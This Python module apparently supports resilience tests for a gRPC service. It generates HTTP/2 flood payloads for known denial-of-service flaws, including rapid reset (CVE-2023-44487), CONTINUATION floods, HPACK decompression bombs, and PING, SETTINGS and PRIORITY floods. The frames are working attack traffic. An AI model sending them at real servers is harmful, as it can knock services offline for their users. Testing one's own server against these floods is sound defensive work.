"""Floods of frames: each function returns the next piece of its flood, to be sent over and over on a connection."""

from __future__ import annotations

from collections.abc import Callable

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from support.attack.peer import EMBED, Peer, header_block

_CANCEL = 8  # RFC 9113, section 7


def rapid_reset(peer: Peer) -> bytes:
    """Open and cancel 100 calls (CVE-2023-44487)."""
    frames: list[Frame] = []
    for _ in range(100):
        stream = peer.open_stream()
        frames += (peer.headers(stream), RstStreamFrame(stream, error_code=_CANCEL))
    return _bytes(frames)


def reset_many_methods(peer: Peer) -> bytes:
    """Open and cancel 100 calls of different methods with 7 KB of metadata each."""
    frames: list[Frame] = []
    for at in range(100):
        stream = peer.open_stream()
        method = _METHODS[at % len(_METHODS)]
        frames += (peer.headers(stream, method, (("x-a", "v" * 7000),)), RstStreamFrame(stream, error_code=_CANCEL))
    return _bytes(frames)


def continuation(peer: Peer) -> bytes:
    """Continue one block of headers without an end (CVE-2024-27983 and others)."""
    field = b"\x00\x01a\x01b"  # a literal that is not indexed: a: b
    if peer.next_stream == 1:
        stream = peer.open_stream()
        opened = HeadersFrame(stream, peer.headers(stream).data).serialize()
    else:
        stream, opened = 1, b""
    return opened + ContinuationFrame(stream, field * 3000).serialize() * 16


def hpack_bomb(peer: Peer) -> bytes:
    """Refer 12,000 times to a field of 3.9 KB in the table: 48 MB of headers from 12 KB (CVE-2016-6581)."""
    stream = peer.open_stream()
    field = b"\x40\x03x-a" + b"\x7f\xbd\x1d" + b"A" * 3900  # a literal that goes into the table
    # Fields may be repeated, so each call may put its own into the table, where it is the first one: 62.
    block = header_block(EMBED) + field + b"\xbe" * 12_000
    return HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()


def static_bomb(peer: Peer) -> bytes:
    """Refer 16,000 times to a field of the static table, which no setting takes away."""
    stream = peer.open_stream()
    return HeadersFrame(stream, header_block(EMBED) + b"\x90" * 16_000, flags=["END_HEADERS"]).serialize()


def empty_data(peer: Peer) -> bytes:
    """Send 500 DATA frames without a byte on one call (CVE-2019-9518)."""
    if peer.next_stream == 1:
        stream = peer.open_stream()
        return peer.headers(stream).serialize() + DataFrame(stream).serialize() * 500
    return DataFrame(1).serialize() * 500


def ping(peer: Peer) -> bytes:
    """Send 200 pings (CVE-2019-9512)."""
    return PingFrame(opaque_data=b"attack00").serialize() * 200


def settings(peer: Peer) -> bytes:
    """Change the settings 200 times (CVE-2019-9515)."""
    return SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * 200


def window_update(peer: Peer) -> bytes:
    """Widen the connection's window by one byte, 500 times."""
    return WindowUpdateFrame(0, window_increment=1).serialize() * 500


def priority(peer: Peer) -> bytes:
    """Give a stream that nobody opened another priority, 500 times (CVE-2019-9513)."""
    return PriorityFrame(1, depends_on=0, stream_weight=16).serialize() * 500


def idle_streams(peer: Peer) -> bytes:
    """Open 100 calls and send nothing more on them."""
    return _bytes([peer.headers(peer.open_stream(), _METHODS[0]) for _ in range(100)])


def _bytes(frames: list[Frame]) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


_METHODS = (
    "/lookalike.v1.CatalogService/UpsertProducts",
    "/lookalike.v1.CatalogService/ListProducts",
    "/lookalike.v1.CatalogService/GetProduct",
    "/lookalike.v1.CatalogService/DeleteProducts",
    "/lookalike.v1.SearchService/Search",
    "/lookalike.v1.EmbeddingService/Embed",
    "/lookalike.v1.EmbeddingService/EmbedStream",
    "/inference.GRPCInferenceService/ModelInfer",
    "/no.such.Service/Method",
)

FLOODS: dict[str, Callable[[Peer], bytes]] = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        reset_many_methods,
        continuation,
        hpack_bomb,
        static_bomb,
        empty_data,
        ping,
        settings,
        window_update,
        priority,
        idle_streams,
    )
}
